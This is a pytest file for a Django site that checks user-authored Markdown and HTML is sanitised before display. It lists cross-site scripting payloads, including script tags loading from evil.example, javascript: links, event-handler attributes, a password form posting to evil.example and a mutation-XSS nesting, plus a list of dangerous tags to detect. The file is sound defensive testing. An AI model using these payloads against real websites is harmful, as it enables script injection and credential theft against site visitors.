"""Script in Markdown is neutralised wherever an author's text is shown."""

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from resources.models import Resource
from tests.factories import member_with_account
from tests.resources.factories import ResourceFactory, editor_account

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert('x')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "[click me](javascript:alert('x'))",
    "[click me](JaVaScRiPt:alert('x'))",
    "[click me](  javascript:alert('x'))",
    '<a href="javascript:alert(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "![img](x onerror=alert(1))",
    '<img src="x" onerror="alert(1)">',
    '<svg onload="alert(1)"></svg>',
    '<div onclick="alert(1)" onmouseover="alert(1)">hover</div>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<style>body{display:none}</style><p style="background:url(javascript:alert(1))">x</p>',
    '<form action="https://evil.example"><input name="password"></form>',
    "<details open ontoggle=alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
]
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "style", "form", "input", "svg", "math"}


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.problems.append(f"{tag}[{name}]")
            if name in ("href", "src", "action") and value:
                scheme = value.strip().lower().split(":", 1)[0]
                if ":" in value and scheme not in ("http", "https", "mailto"):
                    self.problems.append(f"{tag}[{name}={value}]")


def problems_in(html: str) -> list[str]:
    """Tags, event handlers and URL schemes that could run script, found by parsing the HTML
    (a payload's words may survive as harmless text; only markup matters)."""
    collector = _Collector()
    collector.feed(html)
    return collector.problems


def section(page: str) -> str:
    start = page.index('class="resource-body"')
    return page[start : page.index("</section>", start)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_payload_is_neutralised_on_the_page(client, payload):
    resource = ResourceFactory(body=f"Before\n\n{payload}\n\nAfter")

    page = client.get(resource.get_absolute_url()).content.decode()

    body = section(page)
    assert "Before" in body
    assert problems_in(body) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_in_a_guided_section_is_neutralised(client, payload):
    member = member_with_account()
    client.force_login(member.user)
    client.post(
        reverse("resources:create_guided"),
        {
            "kind": "case_study",
            "title": "A case study",
            "summary": "Short.",
            "context": payload,
            "actions": "We did things.",
            "visibility": "public",
            "action": "save",
        },
    )
    resource = Resource.objects.get()
    client.force_login(editor_account().user)

    page = client.get(resource.get_absolute_url()).content.decode()

    body = section(page)
    # An unclosed <style> may swallow the text after it: lost, but never run.
    assert "<h2>Context</h2>" in body
    assert problems_in(body) == []


def test_title_and_summary_are_escaped(client):
    resource = ResourceFactory(title="<script>alert(1)</script>", summary="<b onclick=x>hi</b>")

    page = client.get(resource.get_absolute_url()).content.decode()

    assert "<script>alert(1)" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<b onclick" not in page


def test_the_checker_finds_what_it_looks_for():
    assert problems_in('<a href="javascript:x" onclick="y">a</a><script></script>') == [
        "a[href=javascript:x]",
        "a[onclick]",
        "<script>",
    ]


def test_safe_markdown_still_renders(client):
    resource = ResourceFactory(body="**bold** and [a link](https://example.org)\n\n- one\n- two")

    body = section(client.get(resource.get_absolute_url()).content.decode())

    assert "<strong>bold</strong>" in body
    assert '<a href="https://example.org" rel="noopener noreferrer">a link</a>' in body
    assert "<li>one</li>" in body
